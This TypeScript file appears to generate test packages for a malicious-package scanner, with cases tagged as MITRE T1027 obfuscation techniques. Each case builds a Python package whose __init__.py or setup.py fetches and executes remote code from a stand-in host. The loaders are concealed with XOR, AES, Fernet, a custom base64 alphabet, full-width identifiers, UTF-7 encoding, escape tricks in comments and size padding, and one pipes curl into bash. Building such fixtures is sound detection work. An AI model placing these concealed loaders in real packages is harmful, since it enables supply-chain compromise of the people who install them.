import { deflateSync } from 'node:zlib';
import { techniques } from './drafts.ts';
import { aes256cbc, base64, blob, fernet, xor } from './encoders.ts';
import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { compressedTables, encryptedNotes, expressionCompiler } from './look-alikes/text.ts';
import { stagedLoader } from './payloads.ts';
import { py, pyBytes, pyString } from './python-text.ts';

const REMOTE = 'https://static.font-metrics.invalid';

function draft(name: string, code: string, files: Readonly<Record<string, string | Uint8Array>> = {}): Draft {
  const root = name.replaceAll('-', '_');
  return {
    kind: 'wheel',
    name,
    version: '0.3.9',
    files: { [`${root}/shapes.py`]: fillerModule('Shapes.', 180, 221), ...files },
    sites: [
      {
        path: `${root}/__init__.py`,
        form: 'module',
        before: '"""Shapes of glyphs."""\nfrom . import shapes\n\n',
        code,
        after: '\n__version__ = "0.3.9"\n',
      },
    ],
  };
}

const fetchAndRun = (c: Remote): string =>
  `import urllib.request\nexec(urllib.request.urlopen("${c.url('/s')}").read())\n`;

/** Names and URL are slices of a list of numbers in a sibling module; the bounds are sums under XOR. */
const siblingNumbers = (c: Remote): Draft => {
  const words = ['urllib.request', 'urlopen', c.url('/s'), 'read', 'exec'];
  const numbers = words.flatMap((word) => [...Buffer.from(word)].map((byte, index) => byte + ((index * 7) % 13)));
  let at = 0;
  const slice = words.map((word) => {
    const text = `_w(${at ^ 0x5a} ^ 0x5a, ${(at + word.length) ^ 0x33} ^ 0x33)`;
    at += word.length;
    return text;
  });
  const [module = '', open = '', url = '', read = '', run = ''] = slice;
  const code = py`from .metrics import ADVANCES as _a


def _w(start, stop):
    return "".join(chr(value - index * 7 % 13) for index, value in enumerate(_a[start:stop]))


_b = globals()["__builtins__"]
_g = _b.get if isinstance(_b, dict) else lambda name: getattr(_b, name)
_m = _g("__import__")(${module}, fromlist=["x"])
_g(${run})(getattr(getattr(_m, ${open})(${url}), ${read})())
`;
  return draft('glyphshapes', code, {
    'glyphshapes/metrics.py': `"""Advance widths."""\n\nADVANCES = ${JSON.stringify(numbers)}\n`,
  });
};

/** Identifiers of another script, arithmetic for numbers, names by map over getattr. */
const mappedBuiltins = (c: Remote): Draft => {
  const number = (value: number): string =>
    `(${value + 977} - ${Math.floor((value * 3) / 2) + 977} + ${Math.floor((value * 3) / 2)})`;
  const text = (value: string): string => `下("", 上(字, [${[...Buffer.from(value)].map(number).join(', ')}]))`;
  const code = `字, 上, 入 = map(getattr, [__import__("builtins")] * 3, ["chr", "map", "__import__"])\n下 = lambda 左, 右: 左.join(右)\n口 = 入(${text('builtins')})\n门 = getattr(口, ${text('exec')})\n山 = 入(${text('urllib.request')}, fromlist=[${text('x')}])\n门(getattr(山, ${text('urlopen')})(${text(c.url('/s'))}).read())\n`;
  return draft('glyphcjk', code);
};

/** A lazily used class whose method decodes with a key of the instance. */
const methodDecoder = (c: Remote): Draft => {
  const key = blob('method key', 9);
  const masked = xor(Buffer.from(stagedLoader(c)), key);
  return draft(
    'glyphlazy',
    py`class _Proxy:
    def __init__(self, body, key):
        self._body = body
        self._key = key
        self._ready = False

    def decode(self, body):
        out = bytearray()
        for index in range(len(body)):
            out.append(body[index] ^ self._key[index % len(self._key)])
        return bytes(out)

    def load(self):
        if not self._ready:
            exec(self.decode(self._body), globals())
            self._ready = True
        return self


_proxy = _Proxy(${pyBytes(masked)}, ${pyBytes(key)})
_proxy.load()
`,
  );
};

const evalPieces = (c: Remote): Draft => {
  const escaped = (text: string): string =>
    `'${[...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, '0')}`).join('')}'`;
  return draft(
    'glypheval',
    `_ = eval("${[...Buffer.from('getattr')].map((byte) => `\\x${byte.toString(16)}`).join('')}")\n__ = eval(${escaped('__import__')})\n_(__(${escaped('builtins')}), ${escaped('exec')})(_(__(${escaped('urllib.request')}, fromlist=['x']), ${escaped('urlopen')})(${escaped(c.url('/s'))}).read())\n`,
  );
};

/** Two eyes read exec; Python's identifiers are normalised before they are looked up. */
const wideLetters = (c: Remote): Draft =>
  draft(
    'glyphwide',
    `import urllib.request as ｒｅｑ\n\nｅｘｅｃ(ｒｅｑ.ｕｒｌｏｐｅｎ("${c.url('/s')}").ｒｅａｄ())\n`,
  );

const aes = (c: Remote): Draft => {
  const { key, iv, sealed } = aes256cbc(Buffer.from(stagedLoader(c)), 'glyph');
  return draft(
    'glyphseal',
    `import base64\n\nfrom Crypto.Cipher import AES\nfrom Crypto.Util.Padding import unpad\n\nexec(unpad(AES.new(${pyBytes(key)}, AES.MODE_CBC, ${pyBytes(iv)}).decrypt(base64.b64decode("${base64(sealed)}")), 16))\n`,
  );
};

const fernetToken = (c: Remote): Draft => {
  const { key, token } = fernet(Buffer.from(stagedLoader(c)), 'glyph');
  return draft(
    'glyphtoken',
    `from cryptography.fernet import Fernet\n\nexec(Fernet(b"${key}").decrypt(b"${token}"))\n`,
  );
};

/** The key is not in the file: what runs cannot be read, that something runs can. */
const keyFromNetwork = (c: Remote): Draft => {
  const { token } = fernet(Buffer.from(stagedLoader(c)), 'remote key');
  return draft(
    'glyphkeyed',
    `import urllib.request\n\nfrom cryptography.fernet import Fernet\n\n_key = urllib.request.urlopen("${c.url('/k')}").read()\nexec(Fernet(_key).decrypt(b"${token}"))\n`,
  );
};

/** A comment in the eyes of an editor, code in the eyes of the interpreter. */
const escapedSource = (c: Remote): Draft => ({
  ...draft('glyphcodec', ''),
  sites: [
    {
      path: 'glyphcodec/__init__.py',
      form: 'whole',
      before: '',
      code: `# -*- coding: raw_unicode_escape -*-\n# Shapes of glyphs. \\u000aimport urllib.request\\u000aexec(urllib.request.urlopen("${c.url('/s')}").read())\n__version__ = "0.3.9"\n`,
      after: '',
    },
  ],
});

const utf7Source = (c: Remote): Draft => {
  const shift = (text: string): string => {
    const wide = Buffer.from(text, 'utf16le').swap16();
    return `+${wide.toString('base64').replace(/=+$/, '')}-`;
  };
  return {
    ...draft('glyphseven', ''),
    sites: [
      {
        path: 'glyphseven/__init__.py',
        form: 'whole',
        before: '',
        code: `# coding: utf-7\n${shift(fetchAndRun(c))}\n`,
        after: '',
      },
    ],
  };
};

/** An entry point too big to be read by anyone. */
const oversized = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'glyphhuge',
  version: '0.3.9',
  files: { 'glyphhuge/__init__.py': '' },
  sites: [
    {
      path: 'setup.py',
      form: 'setup',
      before: 'from setuptools import setup\n',
      code: `import base64\n_data = "${base64(blob('huge', 4_500_000))}"\n_code = "${base64(Buffer.from(stagedLoader(c)))}"\nexec(base64.b64decode(_code))\n`,
      after: '\nsetup(name="glyphhuge", version="0.3.9", packages=["glyphhuge"])\n',
    },
  ],
});

/** One loop, one table, one alphabet of its own. */
const ownAlphabet = (c: Remote): Draft => {
  const standard = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  const own = 'qWERTYUIOPasdfGHJKLzxcvbNMQwertyuiopASDFghjklZXCVBnm9876543210-_';
  const packed = Array.from(base64(deflateSync(Buffer.from(stagedLoader(c)))).replaceAll('=', ''))
    .map((letter) => own[standard.indexOf(letter)] ?? letter)
    .join('');
  return draft(
    'glyphabet',
    py`import base64
import zlib

_OWN = "${own}"
_STD = "${standard}"
_text = ${pyString(packed)}.translate(str.maketrans(_OWN, _STD))
exec(zlib.decompress(base64.b64decode(_text + "=" * (-len(_text) % 4))))
`,
  );
};

/** Broken Python after the payload: the parser gives up, the interpreter never gets there in Python 2 or not at all. */
const unparsable = (c: Remote): Draft => ({
  kind: 'sdist',
  name: 'glyphbroken',
  version: '0.3.9',
  files: { 'glyphbroken/__init__.py': '' },
  sites: [
    {
      path: 'setup.py',
      form: 'whole',
      before: '',
      code: `import os\nfrom setuptools import setup\n\nos.system("curl -s ${c.url('/s.sh')} | bash")\nprint "installing"\nexec "import urllib2; exec urllib2.urlopen('${c.url('/s')}').read()"\nsetup(name="glyphbroken", version="0.3.9", packages=["glyphbroken"])\n`,
      after: '',
    },
  ],
});

const at = techniques('https://attack.mitre.org/techniques/T1027/', REMOTE);

const RUNS = 'import fetches text from a constant host and executes it';
const STAGE = 'import decodes a loader that asks a constant host for code, and executes it';

export const OBFUSCATION: readonly Replay[] = [
  at('34a-sibling-numbers', 'names and URL sliced from numbers in a sibling module', RUNS, siblingNumbers),
  at('34b-mapped-builtins', 'identifiers of another script, names by map over getattr', RUNS, mappedBuiltins),
  at('34c-method-decoder', 'a proxy class decodes with a key of the instance', STAGE, methodDecoder),
  at('34d-eval-pieces', 'names built by eval of escapes', RUNS, evalPieces),
  at('34e-wide-letters', 'full-width letters that Python normalises', RUNS, wideLetters),
  at('34f-aes', 'AES-CBC with key and IV inline', STAGE, aes, { lookAlikes: () => [encryptedNotes()] }),
  at('34g-fernet', 'a Fernet token with its key', STAGE, fernetToken),
  at(
    '34h-remote-key',
    'a Fernet token whose key comes from the network',
    'import fetches a key, decrypts a token with it and executes the result',
    keyFromNetwork,
  ),
  at('34i-escaped-source', 'code in a comment, by the declared encoding', RUNS, escapedSource, {
    isAsReportedOnly: true,
  }),
  at('34j-utf7-source', 'the source is UTF-7', RUNS, utf7Source, { isAsReportedOnly: true }),
  at(
    '34k-oversized',
    'a setup.py of 6 MB',
    'setup.py decodes a loader and executes it; a literal of 6 MB stands before it',
    oversized,
    { lookAlikes: () => [compressedTables()], isAsReportedOnly: true },
  ),
  at('34l-own-alphabet', 'base64 with an alphabet of its own', STAGE, ownAlphabet, {
    lookAlikes: () => [expressionCompiler()],
  }),
  at(
    '34m-unparsable',
    'setup.py that only Python 2 could parse',
    'setup.py pipes a download into bash and executes the body of a response',
    unparsable,
  ),
];
